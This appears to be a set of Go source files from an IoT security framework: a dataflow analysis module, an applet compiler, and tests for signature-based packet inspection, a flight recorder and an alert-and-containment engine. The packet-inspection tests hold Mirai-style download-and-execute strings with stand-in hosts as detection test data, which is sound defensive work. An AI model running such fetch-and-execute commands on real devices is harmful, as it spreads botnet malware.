		t.Errorf("above-threshold wall slowdown should fail; exit %d:\n%s", code, out.String())
	}
}
