package analysis

// The forward dataflow layer on top of the CFG: identifier reference
// classification, a textbook reaching-definitions fixpoint, and the
// per-definition liveness query the deadstore and cryptomisuse rules
// share. Identifier identity comes from the tolerant type oracle when
// available (so shadowing resolves correctly) and falls back to names.

import (
	"go/ast"
	"go/token"
)

// identObj resolves an identifier to a stable object key: the
// types.Object when the tolerant checker has one, otherwise a name key.
// Shared by the taint walker and the CFG analyses.
func identObj(pt *pkgTypes, id *ast.Ident) any {
	if pt != nil {
		if obj := pt.info.Defs[id]; obj != nil {
			return obj
		}
		if obj := pt.info.Uses[id]; obj != nil {
			return obj
		}
	}
	return "ident:" + id.Name
}

// WriteRef is one assignment to an identifier inside a node.
type WriteRef struct {
	Ident *ast.Ident
	// RHS is the assigned expression; nil for zero-value declarations
	// and range variables.
	RHS ast.Expr
	// Complete marks a write that fully replaces the previous value
	// (plain = or :=). Compound assignments and ++/-- read the old value
	// first, so they are both a read and an incomplete write.
	Complete bool
	// Declared marks := and var declarations.
	Declared bool
	// Ranged marks range-loop key/value variables (reassigned every
	// iteration; never a dead-store candidate).
	Ranged bool
}

// inspectNode visits the parts of a CFG node that execute *at* that
// node. A RangeStmt head block stores the whole statement, but its body
// is lowered into separate blocks — walking it from the head would
// double-count body expressions — so only the range operands are
// visited. Every other node kind is walked fully.
func inspectNode(n ast.Node, fn func(ast.Node) bool) {
	if r, ok := n.(*ast.RangeStmt); ok {
		if r.Key != nil {
			ast.Inspect(r.Key, fn)
		}
		if r.Value != nil {
			ast.Inspect(r.Value, fn)
		}
		ast.Inspect(r.X, fn)
		return
	}
	ast.Inspect(n, fn)
}

// nodeRefs classifies the identifier references of one CFG node into
// reads and writes. The walk is shallow: it does not descend into a
// RangeStmt body (lowered into its own blocks) but does descend into
// function literals, whose captured references count as reads at the
// point the literal is evaluated.
func nodeRefs(n ast.Node) (reads []*ast.Ident, writes []WriteRef) {
	var readExpr func(e ast.Expr)
	readExpr = func(e ast.Expr) {
		if e == nil {
			return
		}
		ast.Inspect(e, func(x ast.Node) bool {
			switch x := x.(type) {
			case *ast.Ident:
				if x.Name != "_" {
					reads = append(reads, x)
				}
			case *ast.SelectorExpr:
				// Only the operand is a variable reference; Sel names a
				// field or method.
				readExpr(x.X)
				return false
			case *ast.KeyValueExpr:
				// A struct-literal key is a field name, not a variable;
				// map/array keys are real reads. Reading both is the
				// conservative choice only for maps — skip struct keys
				// when they are plain identifiers (field-name shape).
				if _, ok := x.Key.(*ast.Ident); !ok {
					readExpr(x.Key)
				}
				readExpr(x.Value)
				return false
			}
			return true
		})
	}
	// writeTarget classifies one assignment destination: a plain
	// identifier is a write; a selector/index/deref destination reads
	// (and keeps live) its root variable.
	writeTarget := func(e ast.Expr, rhs ast.Expr, complete, declared bool) {
		if id, ok := e.(*ast.Ident); ok {
			if id.Name != "_" {
				writes = append(writes, WriteRef{Ident: id, RHS: rhs, Complete: complete, Declared: declared})
			}
			return
		}
		readExpr(e)
	}

	switch n := n.(type) {
	case *ast.AssignStmt:
		for _, r := range n.Rhs {
			readExpr(r)
		}
		complete := n.Tok == token.ASSIGN || n.Tok == token.DEFINE
		declared := n.Tok == token.DEFINE
		for i, l := range n.Lhs {
			var rhs ast.Expr
			if len(n.Rhs) == len(n.Lhs) {
				rhs = n.Rhs[i]
			} else if len(n.Rhs) == 1 {
				rhs = n.Rhs[0] // multi-value call
			}
			if !complete {
				readExpr(l) // compound assignment reads the old value
			}
			writeTarget(l, rhs, complete, declared)
		}
	case *ast.IncDecStmt:
		readExpr(n.X)
		writeTarget(n.X, nil, false, false)
	case *ast.DeclStmt:
		gd, ok := n.Decl.(*ast.GenDecl)
		if !ok {
			return
		}
		for _, spec := range gd.Specs {
			vs, ok := spec.(*ast.ValueSpec)
			if !ok {
				continue
			}
			for _, v := range vs.Values {
				readExpr(v)
			}
			for i, name := range vs.Names {
				var rhs ast.Expr
				if i < len(vs.Values) {
					rhs = vs.Values[i]
				} else if len(vs.Values) == 1 {
					rhs = vs.Values[0]
				}
				if name.Name != "_" {
					writes = append(writes, WriteRef{Ident: name, RHS: rhs, Complete: true, Declared: true})
				}
			}
		}
	case *ast.RangeStmt:
		readExpr(n.X)
		mark := func(e ast.Expr) {
			if e == nil {
				return
			}
			if id, ok := e.(*ast.Ident); ok {
				if id.Name != "_" {
					writes = append(writes, WriteRef{Ident: id, Complete: true, Declared: n.Tok == token.DEFINE, Ranged: true})
				}
				return
			}
			readExpr(e)
		}
		mark(n.Key)
		mark(n.Value)
	case *ast.ExprStmt:
		readExpr(n.X)
	case *ast.ReturnStmt:
		for _, r := range n.Results {
			readExpr(r)
		}
	case *ast.SendStmt:
		readExpr(n.Chan)
		readExpr(n.Value)
	case *ast.GoStmt:
		readExpr(n.Call)
	case *ast.DeferStmt:
		readExpr(n.Call)
	case *ast.BranchStmt:
		// labels are not variables
	case ast.Expr:
		readExpr(n)
	case ast.Stmt:
		// Remaining statement kinds (LabeledStmt never reaches here;
		// nested blocks are lowered away). Walk conservatively as reads.
		ast.Inspect(n, func(x ast.Node) bool {
			if id, ok := x.(*ast.Ident); ok && id.Name != "_" {
				reads = append(reads, id)
			}
			return true
		})
	}
	return reads, writes
}

// DefSite is one reaching definition: a write of Obj at a specific node.
type DefSite struct {
	Obj   any
	Write WriteRef
	Block *Block
	// NodeIdx is the position of the defining node within Block.Nodes.
	NodeIdx int
}

// bitset is a dense bit vector sized to the definition count.
type bitset []uint64

func newBitset(n int) bitset    { return make(bitset, (n+63)/64) }
func (b bitset) set(i int)      { b[i/64] |= 1 << (i % 64) }
func (b bitset) clear(i int)    { b[i/64] &^= 1 << (i % 64) }
func (b bitset) has(i int) bool { return b[i/64]&(1<<(i%64)) != 0 }
func (b bitset) orInto(o bitset) bool {
	changed := false
	for i := range b {
		if n := b[i] | o[i]; n != b[i] {
			b[i] = n
			changed = true
		}
	}
	return changed
}
func (b bitset) clone() bitset {
	out := make(bitset, len(b))
	copy(out, b)
	return out
}

// ReachingDefs is the classic forward may-analysis: which definitions of
// each variable can reach each program point.
type ReachingDefs struct {
	g    *CFG
	pt   *pkgTypes
	Defs []DefSite
	// byObj indexes Defs by object.
	byObj map[any][]int
	// defAt locates the defs generated by node (block, idx).
	defsAt map[*Block]map[int][]int
	in     map[*Block]bitset
}

// NewReachingDefs collects every definition in the graph and iterates
// the gen/kill fixpoint to convergence.
func NewReachingDefs(g *CFG, pt *pkgTypes) *ReachingDefs {
	r := &ReachingDefs{
		g:      g,
		pt:     pt,
		byObj:  make(map[any][]int),
		defsAt: make(map[*Block]map[int][]int),
		in:     make(map[*Block]bitset),
	}
	for _, b := range g.Blocks {
		for i, n := range b.Nodes {
			_, writes := nodeRefs(n)
			for _, w := range writes {
				idx := len(r.Defs)
				obj := identObj(pt, w.Ident)
				r.Defs = append(r.Defs, DefSite{Obj: obj, Write: w, Block: b, NodeIdx: i})
				r.byObj[obj] = append(r.byObj[obj], idx)
				if r.defsAt[b] == nil {
					r.defsAt[b] = make(map[int][]int)
				}
				r.defsAt[b][i] = append(r.defsAt[b][i], idx)
			}
		}
	}
	n := len(r.Defs)
	out := make(map[*Block]bitset, len(g.Blocks))
	for _, b := range g.Blocks {
		r.in[b] = newBitset(n)
		out[b] = newBitset(n)
	}
	// Iterate to fixpoint (reverse-postorder would converge faster; the
	// functions here are small enough that simple rounds are fine).
	for changed := true; changed; {
		changed = false
		for _, b := range g.Blocks {
			in := r.in[b]
			for _, p := range b.Preds {
				in.orInto(out[p])
			}
			o := r.flowThrough(b, in.clone(), len(b.Nodes))
			for i := range o {
				if o[i] != out[b][i] {
					out[b] = o
					changed = true
					break
				}
			}
		}
	}
	return r
}

// flowThrough applies gen/kill for Nodes[0:upto] of b to the set.
func (r *ReachingDefs) flowThrough(b *Block, set bitset, upto int) bitset {
	for i := 0; i < upto; i++ {
		for _, d := range r.defsAt[b][i] {
			def := r.Defs[d]
			if def.Write.Complete {
				for _, other := range r.byObj[def.Obj] {
					set.clear(other)
				}
			}
			set.set(d)
		}
	}
	return set
}

// At returns the definitions of obj reaching the point just before
// Nodes[nodeIdx] of block b.
func (r *ReachingDefs) At(b *Block, nodeIdx int, obj any) []*DefSite {
	set := r.flowThrough(b, r.in[b].clone(), nodeIdx)
	var out []*DefSite
	for _, d := range r.byObj[obj] {
		if set.has(d) {
			out = append(out, &r.Defs[d])
		}
	}
	return out
}

// Obj resolves an identifier with this analysis's resolver.
func (r *ReachingDefs) Obj(id *ast.Ident) any { return identObj(r.pt, id) }

// liveStatus classifies one block for one object during the deadness
// query: the first thing the block does with the object.
type liveStatus int

const (
	transparent liveStatus = iota // neither reads nor fully overwrites
	readsFirst
	killsFirst
)

// blockStatus computes what b does with obj, scanning Nodes from `from`.
func blockStatus(pt *pkgTypes, b *Block, from int, obj any) liveStatus {
	for i := from; i < len(b.Nodes); i++ {
		reads, writes := nodeRefs(b.Nodes[i])
		for _, id := range reads {
			if identObj(pt, id) == obj {
				return readsFirst
			}
		}
		// Incomplete writes read the old value via nodeRefs above; a
		// complete write here means the old value is gone.
		for _, w := range writes {
			if w.Complete && identObj(pt, w.Ident) == obj {
				return killsFirst
			}
		}
	}
	return transparent
}

// DefIsDead reports whether the value written by def is never read: on
// every CFG path from the definition, the variable is overwritten or
// the function exits before any read. exitReads lists objects that are
// implicitly read at function exit (named results).
func DefIsDead(pt *pkgTypes, g *CFG, def *DefSite, exitReads map[any]bool) bool {
	// The rest of the defining block, after the defining node.
	switch blockStatus(pt, def.Block, def.NodeIdx+1, def.Obj) {
	case readsFirst:
		return false
	case killsFirst:
		return true
	}
	seen := map[*Block]bool{}
	var anyRead func(b *Block) bool
	anyRead = func(b *Block) bool {
		if seen[b] {
			return false
		}
		seen[b] = true
		if b == g.Exit && exitReads[def.Obj] {
			return true
		}
		switch blockStatus(pt, b, 0, def.Obj) {
		case readsFirst:
			return true
		case killsFirst:
			return false
		}
		for _, s := range b.Succs {
			if anyRead(s) {
				return true
			}
		}
		return false
	}
	for _, s := range def.Block.Succs {
		if anyRead(s) {
			return false
		}
	}
	return true
}
