package service

import (
	"errors"
	"fmt"
	"sort"
)

// IFTTT-style applets (§II-C): single trigger-action programs connecting
// two services/devices. An Applet is sugar over SmartApp with exactly one
// rule and minimal grants — the shape of the 200,000 recipes Ur et al.
// analysed.

// Applet describes one "if this then that" program.
type Applet struct {
	ID string
	// If: the trigger.
	IfDevice string
	IfEvent  string
	// Above optionally thresholds the trigger value.
	Above *float64
	// Then: the action.
	ThenDevice  string
	ThenCommand string
}

// Compile converts the applet into an installable SmartApp. The grants are
// minimal: the trigger device's event capability and the action device's
// command capability.
func (a Applet) Compile(capOfCommand func(device, command string) string) (*SmartApp, error) {
	if a.ID == "" {
		return nil, errors.New("service: applet with empty ID")
	}
	if a.IfDevice == "" || a.IfEvent == "" || a.ThenDevice == "" || a.ThenCommand == "" {
		return nil, fmt.Errorf("service: applet %q incomplete", a.ID)
	}
	actionCap := a.ThenCommand
	if capOfCommand != nil {
		if c := capOfCommand(a.ThenDevice, a.ThenCommand); c != "" {
			actionCap = c
		}
	}
	return &SmartApp{
		ID: a.ID,
		Rules: []Rule{{
			TriggerDevice: a.IfDevice, TriggerEvent: a.IfEvent, TriggerAbove: a.Above,
			ActionDevice: a.ThenDevice, ActionCommand: a.ThenCommand,
		}},
		Grants: []Grant{
			{DeviceID: a.IfDevice, Capability: a.IfEvent},
			{DeviceID: a.ThenDevice, Capability: actionCap},
		},
	}, nil
}

// InstallApplet compiles and installs an applet, resolving the action
// capability from the target device's handler.
func (c *Cloud) InstallApplet(a Applet) error {
	app, err := a.Compile(func(deviceID, command string) string {
		if h, ok := c.devices[deviceID]; ok {
			return h.CapOfCommand[command]
		}
		return ""
	})
	if err != nil {
		return err
	}
	return c.InstallApp(app)
}

// Subscriptions returns, for each installed app, the (device, event) pairs
// it listens on — the platform's Subscription Management view (§II-C).
func (c *Cloud) Subscriptions() map[string][]string {
	out := make(map[string][]string)
	for id, app := range c.apps {
		seen := make(map[string]bool)
		for _, r := range app.Rules {
			key := r.TriggerDevice + "/" + r.TriggerEvent
			if !seen[key] {
				seen[key] = true
				out[id] = append(out[id], key)
			}
		}
		sort.Strings(out[id])
	}
	return out
}
