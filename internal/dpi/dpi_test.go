package dpi

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestMatcherBasics(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("he"), []byte("she"), []byte("his"), []byte("hers")})
	got := m.FindAll([]byte("ushers"))
	// Classic AC example: "ushers" contains she(4), he(4), hers(6).
	want := map[Match]bool{
		{Pattern: 1, End: 4}: true, // she
		{Pattern: 0, End: 4}: true, // he
		{Pattern: 3, End: 6}: true, // hers
	}
	if len(got) != len(want) {
		t.Fatalf("FindAll = %v, want 3 matches", got)
	}
	for _, g := range got {
		if !want[g] {
			t.Errorf("unexpected match %v", g)
		}
	}
}

func TestMatcherOverlapsAndRepeats(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("aa")})
	got := m.FindAll([]byte("aaaa"))
	if len(got) != 3 {
		t.Errorf("overlapping matches = %d, want 3", len(got))
	}
}

func TestMatcherContains(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("busybox")})
	if !m.Contains([]byte("run /bin/busybox now")) {
		t.Error("Contains missed pattern")
	}
	if m.Contains([]byte("nothing here")) {
		t.Error("Contains false positive")
	}
	if m.Contains(nil) {
		t.Error("Contains on empty input")
	}
}

func TestMatcherEmptyPatternsIgnored(t *testing.T) {
	m := NewMatcher([][]byte{{}, []byte("x")})
	if m.PatternCount() != 1 {
		t.Errorf("PatternCount = %d, want 1", m.PatternCount())
	}
}

// TestMatcherAgainstNaive is a property test: AC results equal naive
// search over random inputs and patterns.
func TestMatcherAgainstNaive(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	alphabet := []byte("abc")
	randBytes := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[rng.Intn(len(alphabet))]
		}
		return b
	}
	for trial := 0; trial < 200; trial++ {
		var pats [][]byte
		for i := 0; i < 1+rng.Intn(5); i++ {
			pats = append(pats, randBytes(1+rng.Intn(4)))
		}
		text := randBytes(rng.Intn(60))
		m := NewMatcher(pats)
		got := make(map[Match]int)
		for _, mt := range m.FindAll(text) {
			got[mt]++
		}
		want := make(map[Match]int)
		for pi, p := range m.patterns {
			for i := 0; i+len(p) <= len(text); i++ {
				if bytes.Equal(text[i:i+len(p)], p) {
					want[Match{Pattern: pi, End: i + len(p)}]++
				}
			}
		}
		if len(got) != len(want) {
			t.Fatalf("trial %d: got %v want %v (pats=%q text=%q)", trial, got, want, pats, text)
		}
		for k, v := range want {
			if got[k] != v {
				t.Fatalf("trial %d: mismatch at %v (pats=%q text=%q)", trial, k, pats, text)
			}
		}
	}
}

func mustRules(t *testing.T) *RuleSet {
	t.Helper()
	rs, err := NewRuleSet(IoTMalwareRules())
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func TestRuleSetValidation(t *testing.T) {
	if _, err := NewRuleSet([]Rule{{ID: "", Keywords: []Keyword{{Pattern: []byte("abcd")}}}}); err == nil {
		t.Error("empty ID accepted")
	}
	if _, err := NewRuleSet([]Rule{{ID: "a", Keywords: nil}}); err == nil {
		t.Error("no keywords accepted")
	}
	if _, err := NewRuleSet([]Rule{{ID: "a", Keywords: []Keyword{{Pattern: []byte("ab")}}}}); err == nil {
		t.Error("short keyword accepted")
	}
	dup := []Rule{
		{ID: "a", Keywords: []Keyword{{Pattern: []byte("abcd"), Offset: -1}}},
		{ID: "a", Keywords: []Keyword{{Pattern: []byte("efgh"), Offset: -1}}},
	}
	if _, err := NewRuleSet(dup); err == nil {
		t.Error("duplicate rule ID accepted")
	}
}

func TestMatchPlainAllKeywordsRequired(t *testing.T) {
	rs := mustRules(t)
	// mirai-loader needs both "/bin/busybox" and "wget http://".
	half := []byte("telnet session: /bin/busybox MIRAI")
	if dets := rs.MatchPlain(half); len(dets) != 0 {
		t.Errorf("half signature fired: %v", dets)
	}
	full := []byte("/bin/busybox; wget http://203.0.113.5/mirai.arm; chmod 777 f")
	dets := rs.MatchPlain(full)
	found := map[string]bool{}
	for _, d := range dets {
		found[d.Rule.ID] = true
	}
	if !found["mirai-loader"] {
		t.Errorf("mirai-loader missed in %q; got %v", full, dets)
	}
}

func TestMatchPlainAnchoredOffset(t *testing.T) {
	rs := mustRules(t)
	// ota-unsigned anchors "FWIMG-UNSIGNED" at offset 0.
	if dets := rs.MatchPlain([]byte("FWIMG-UNSIGNED payload")); len(dets) != 1 {
		t.Errorf("anchored match failed: %v", dets)
	}
	if dets := rs.MatchPlain([]byte("xx FWIMG-UNSIGNED payload")); len(dets) != 0 {
		t.Errorf("mis-anchored match fired: %v", dets)
	}
}

func TestEncryptedDetectorMatchesPlain(t *testing.T) {
	rs := mustRules(t)
	tk, err := NewTokenizer([]byte("session-key"))
	if err != nil {
		t.Fatal(err)
	}
	det, err := NewEncryptedDetector(rs, tk)
	if err != nil {
		t.Fatal(err)
	}
	payloads := [][]byte{
		[]byte("/bin/busybox; wget http://cnc.botnet.example/a.sh"),
		[]byte("FWIMG-UNSIGNED xxxxxxxxxxxxxxxx"),
		[]byte("perfectly normal telemetry reading 23.5C"),
		[]byte("chmod 777 ./dvrHelper && ./dvrHelper"),
	}
	for _, p := range payloads {
		plain := rs.MatchPlain(p)
		enc := det.MatchTokens(tk.Tokenize(p))
		if len(plain) != len(enc) {
			t.Errorf("payload %q: plain=%d enc=%d detections", p, len(plain), len(enc))
			continue
		}
		pm := map[string]bool{}
		for _, d := range plain {
			pm[d.Rule.ID] = true
		}
		for _, d := range enc {
			if !pm[d.Rule.ID] {
				t.Errorf("payload %q: encrypted-only detection %s", p, d.Rule.ID)
			}
		}
	}
}

// TestEncryptedPlainEquivalence is the core property: for random payloads
// (with signatures sometimes embedded), encrypted matching equals
// plaintext matching.
func TestEncryptedPlainEquivalence(t *testing.T) {
	rs := mustRules(t)
	tk, _ := NewTokenizer([]byte("k2"))
	det, _ := NewEncryptedDetector(rs, tk)
	rng := rand.New(rand.NewSource(5))
	sigs := []string{"/bin/busybox", "wget http://", "cnc.botnet.example", "chmod 777", "./dvrHelper", "ssn=", "dob="}
	for trial := 0; trial < 300; trial++ {
		var payload []byte
		for i := 0; i < 1+rng.Intn(6); i++ {
			if rng.Intn(2) == 0 {
				payload = append(payload, sigs[rng.Intn(len(sigs))]...)
			}
			filler := make([]byte, rng.Intn(12))
			for j := range filler {
				filler[j] = byte('a' + rng.Intn(26))
			}
			payload = append(payload, filler...)
		}
		plain := rs.MatchPlain(payload)
		enc := det.MatchTokens(tk.Tokenize(payload))
		pm := map[string]bool{}
		for _, d := range plain {
			pm[d.Rule.ID] = true
		}
		em := map[string]bool{}
		for _, d := range enc {
			em[d.Rule.ID] = true
		}
		if len(pm) != len(em) {
			t.Fatalf("trial %d payload %q: plain %v != enc %v", trial, payload, pm, em)
		}
		for id := range pm {
			if !em[id] {
				t.Fatalf("trial %d payload %q: plain-only %s", trial, payload, id)
			}
		}
	}
}

func TestTokenizerKeySeparation(t *testing.T) {
	a, _ := NewTokenizer([]byte("key-a"))
	b, _ := NewTokenizer([]byte("key-b"))
	p := []byte("same payload bytes")
	ta := a.Tokenize(p)
	tb := b.Tokenize(p)
	same := 0
	for i := range ta {
		if ta[i] == tb[i] {
			same++
		}
	}
	if same != 0 {
		t.Errorf("%d/%d tokens collide across keys", same, len(ta))
	}
	if _, err := NewTokenizer(nil); err == nil {
		t.Error("empty key accepted")
	}
}

func TestTokenizeShortPayload(t *testing.T) {
	tk, _ := NewTokenizer([]byte("k"))
	if got := tk.Tokenize([]byte("abc")); got != nil {
		t.Errorf("short payload produced tokens: %v", got)
	}
	if got := tk.Tokenize([]byte("abcd")); len(got) != 1 {
		t.Errorf("4-byte payload tokens = %d, want 1", len(got))
	}
}

func TestEncryptedDetectorRequiresRules(t *testing.T) {
	empty, err := NewRuleSet(nil)
	if err != nil {
		t.Fatal(err)
	}
	tk, _ := NewTokenizer([]byte("k"))
	if _, err := NewEncryptedDetector(empty, tk); err == nil {
		t.Error("empty rule set accepted")
	}
}

func TestFindSeqProperty(t *testing.T) {
	f := func(hay []uint64, start uint8) bool {
		if len(hay) == 0 {
			return true
		}
		s := int(start) % len(hay)
		needle := hay[s:]
		if len(needle) == 0 {
			return true
		}
		pos := findSeq(hay, needle, -1)
		// Found position must actually match.
		if pos < 0 || pos > s {
			return false
		}
		for j, v := range needle {
			if hay[pos+j] != v {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
