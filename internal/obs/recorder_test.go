package obs

import (
	"testing"
	"time"
)

// TestRecorderRingEvictionOrder pins that a dump holds the most recent
// spans oldest-first, with the displaced prefix gone.
func TestRecorderRingEvictionOrder(t *testing.T) {
	f := NewFlightRecorder(4, 4)
	for i := 1; i <= 7; i++ {
		f.Record(Span{Seq: uint64(i)})
	}
	f.Trigger(7, TriggerAlert)
	if !f.Flush(7) {
		t.Fatal("flush with a pending trigger cut no dump")
	}
	dumps := f.Dumps()
	if len(dumps) != 1 {
		t.Fatalf("got %d dumps, want 1", len(dumps))
	}
	d := dumps[0]
	if len(d.Spans) != 4 {
		t.Fatalf("dump holds %d spans, want ring capacity 4", len(d.Spans))
	}
	for i, s := range d.Spans {
		if want := uint64(i + 4); s.Seq != want {
			t.Errorf("span %d has seq %d, want %d (oldest first, 1-3 evicted)", i, s.Seq, want)
		}
	}
	if d.Time != 7 {
		t.Errorf("dump time = %d, want flush time 7", d.Time)
	}
}

// TestRecorderDebounce pins the once-per-window contract: many fires of
// one class between flushes cut one dump and count the rest as
// suppressed; a flush with nothing pending cuts nothing.
func TestRecorderDebounce(t *testing.T) {
	f := NewFlightRecorder(8, 8)
	f.Record(Span{Seq: 1})
	for i := 0; i < 5; i++ {
		f.Trigger(time.Duration(i), TriggerAlert)
	}
	f.Trigger(5, TriggerDropSpike)
	if !f.Flush(10) {
		t.Fatal("first flush cut no dump")
	}
	if f.Flush(20) {
		t.Error("second flush cut a dump with nothing pending")
	}
	dumps := f.Dumps()
	if len(dumps) != 1 {
		t.Fatalf("got %d dumps, want 1 (debounced)", len(dumps))
	}
	d := dumps[0]
	if len(d.Reasons) != 2 || d.Reasons[0] != "alert" || d.Reasons[1] != "drop-spike" {
		t.Errorf("reasons = %v, want [alert drop-spike] in enum order", d.Reasons)
	}
	if d.Suppressed != 4 {
		t.Errorf("suppressed = %d, want 4 (6 fires, 2 distinct)", d.Suppressed)
	}
	if f.Triggered() != 6 {
		t.Errorf("Triggered = %d, want 6", f.Triggered())
	}
}

// TestRecorderMaxDumps: beyond the retention bound, flushes clear the
// pending state but discard the dump, counting it.
func TestRecorderMaxDumps(t *testing.T) {
	f := NewFlightRecorder(4, 2)
	for i := 0; i < 4; i++ {
		f.Trigger(time.Duration(i), TriggerSLOBreach)
		f.Flush(time.Duration(i))
	}
	if got := len(f.Dumps()); got != 2 {
		t.Errorf("retained %d dumps, want 2", got)
	}
	if f.DroppedDumps() != 2 {
		t.Errorf("dropped = %d, want 2", f.DroppedDumps())
	}
}

// TestRecorderNilSafety: every method on the disabled recorder no-ops.
func TestRecorderNilSafety(t *testing.T) {
	var f *FlightRecorder
	f.Record(Span{})
	f.Trigger(0, TriggerAlert)
	if f.Flush(0) {
		t.Error("nil recorder flushed a dump")
	}
	if f.Enabled() || f.Dumps() != nil || f.Triggered() != 0 || f.Len() != 0 || f.DroppedDumps() != 0 {
		t.Error("nil recorder leaked state")
	}
}

// TestTracerTeesIntoRecorder: a tracer with a bound recorder copies each
// emitted span (after Seq assignment) into the recorder's ring.
func TestTracerTeesIntoRecorder(t *testing.T) {
	tr := NewTracer(16, nil)
	f := NewFlightRecorder(8, 2)
	tr.SetRecorder(f)
	tr.EmitAt(5, LayerCore, "alert", "cam-1", "spoof")
	if f.Len() != 1 {
		t.Fatalf("recorder holds %d spans, want 1", f.Len())
	}
	f.Trigger(5, TriggerAlert)
	f.Flush(6)
	d := f.Dumps()[0]
	if d.Spans[0].Seq != 1 || d.Spans[0].Device != "cam-1" {
		t.Errorf("teed span = %+v, want seq 1 device cam-1", d.Spans[0])
	}
	tr.SetRecorder(nil)
	tr.EmitAt(7, LayerCore, "alert", "cam-2", "spoof")
	if f.Len() != 1 {
		t.Error("detached recorder still received spans")
	}
}
