package core

import (
	"strings"
	"testing"
	"time"

	"xlf/internal/netsim"
)

func sig(t time.Duration, layer LayerName, dev, kind string, score float64) Signal {
	return Signal{Time: t, Layer: layer, Source: "test", DeviceID: dev, Kind: kind, Score: score}
}

func TestSingleWeakSignalNoAlert(t *testing.T) {
	c := New(DefaultConfig(), Containment{})
	if a := c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.5)); a != nil {
		t.Errorf("weak single-layer signal alerted: %s", a)
	}
	if len(c.Alerts()) != 0 {
		t.Error("alert recorded")
	}
}

func TestStrongSignalAlerts(t *testing.T) {
	c := New(DefaultConfig(), Containment{})
	a := c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.9))
	if a == nil {
		t.Fatal("strong signal did not alert")
	}
	if a.Confidence != 0.9 {
		t.Errorf("confidence = %v, want 0.9 (single layer, no bonus)", a.Confidence)
	}
	if len(a.Layers) != 1 || a.Layers[0] != Network {
		t.Errorf("layers = %v", a.Layers)
	}
}

func TestCrossLayerCorroborationBoostsConfidence(t *testing.T) {
	c := New(DefaultConfig(), Containment{})
	// Two medium signals from one layer: no alert (max score 0.55 < 0.6).
	c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.55))
	if got := c.Alerts(); len(got) != 0 {
		t.Fatalf("premature alert: %v", got)
	}
	// A second layer corroborates: 0.55 * 1.25 = 0.6875 >= 0.6.
	a := c.Ingest(sig(2*time.Second, Device, "cam-1", "firmware-tamper", 0.5))
	if a == nil {
		t.Fatal("corroborated evidence did not alert")
	}
	if a.Confidence <= 0.55 {
		t.Errorf("confidence = %v, want boosted above max single score", a.Confidence)
	}
	if len(a.Layers) != 2 {
		t.Errorf("layers = %v, want 2", a.Layers)
	}
	if len(a.Evidence) != 2 {
		t.Errorf("evidence = %d signals, want 2", len(a.Evidence))
	}
}

func TestWindowEviction(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Window = 10 * time.Second
	c := New(cfg, Containment{})
	c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.55))
	// Far outside the window: the old signal no longer corroborates.
	a := c.Ingest(sig(5*time.Minute, Device, "cam-1", "firmware-tamper", 0.5))
	if a != nil {
		t.Errorf("stale evidence corroborated: %s", a)
	}
}

func TestCooldownSuppressesDuplicates(t *testing.T) {
	c := New(DefaultConfig(), Containment{})
	if a := c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.95)); a == nil {
		t.Fatal("first alert missing")
	}
	if a := c.Ingest(sig(2*time.Second, Network, "cam-1", "scan", 0.95)); a != nil {
		t.Error("duplicate alert within cooldown")
	}
	if a := c.Ingest(sig(5*time.Minute, Network, "cam-1", "scan", 0.95)); a == nil {
		t.Error("alert after cooldown missing")
	}
}

func TestContainmentActions(t *testing.T) {
	var blocked, quarantined, revoked []string
	var removedApps []string
	contain := Containment{
		BlockDevice:      func(id string) { blocked = append(blocked, id) },
		QuarantineDevice: func(id string) { quarantined = append(quarantined, id) },
		RemoveApp:        func(id string) { removedApps = append(removedApps, id) },
		RevokeTokens:     func(id string) { revoked = append(revoked, id) },
	}
	c := New(DefaultConfig(), contain)

	// Mirai loader evidence => quarantine + token revocation.
	a := c.Ingest(sig(time.Second, Network, "cam-1", "dpi:mirai-loader", 0.95))
	if a == nil || a.Action != "quarantined" {
		t.Fatalf("alert = %v", a)
	}
	if len(quarantined) != 1 || quarantined[0] != "cam-1" || len(revoked) != 1 {
		t.Errorf("quarantined=%v revoked=%v", quarantined, revoked)
	}

	// Rogue app evidence => app removal.
	a = c.Ingest(sig(time.Second, Service, "window-1", "rogue-app:free-wallpaper", 0.95))
	if a == nil || a.Action != "app-removed" {
		t.Fatalf("alert = %v", a)
	}
	if len(removedApps) != 1 || removedApps[0] != "free-wallpaper" {
		t.Errorf("removedApps = %v", removedApps)
	}

	// Generic strong evidence => block.
	a = c.Ingest(sig(time.Second, Device, "bulb-1", "weird", 0.95))
	if a == nil || a.Action != "blocked" {
		t.Fatalf("alert = %v", a)
	}
	if len(blocked) != 1 || blocked[0] != "bulb-1" {
		t.Errorf("blocked = %v", blocked)
	}
}

func TestWarningBelowContainThreshold(t *testing.T) {
	var blocked []string
	c := New(DefaultConfig(), Containment{BlockDevice: func(id string) { blocked = append(blocked, id) }})
	a := c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.7))
	if a == nil {
		t.Fatal("no alert")
	}
	if a.Severity != SevWarning || a.Action != "" {
		t.Errorf("alert = %s", a)
	}
	if len(blocked) != 0 {
		t.Error("warning triggered containment")
	}
}

func TestLayerAblation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.EnabledLayers = []LayerName{Network}
	c := New(cfg, Containment{})
	if a := c.Ingest(sig(time.Second, Device, "cam-1", "firmware-tamper", 0.99)); a != nil {
		t.Error("disabled layer's signal alerted")
	}
	if st := c.Stats(); st.Ingested != 0 || st.Dropped != 1 {
		t.Errorf("stats = %+v", st)
	}
	if a := c.Ingest(sig(time.Second, Network, "cam-1", "scan", 0.99)); a == nil {
		t.Error("enabled layer's signal ignored")
	}
}

// TestStatsCounters pins the CoreStats fields (backed by the obs metrics
// registry).
func TestStatsCounters(t *testing.T) {
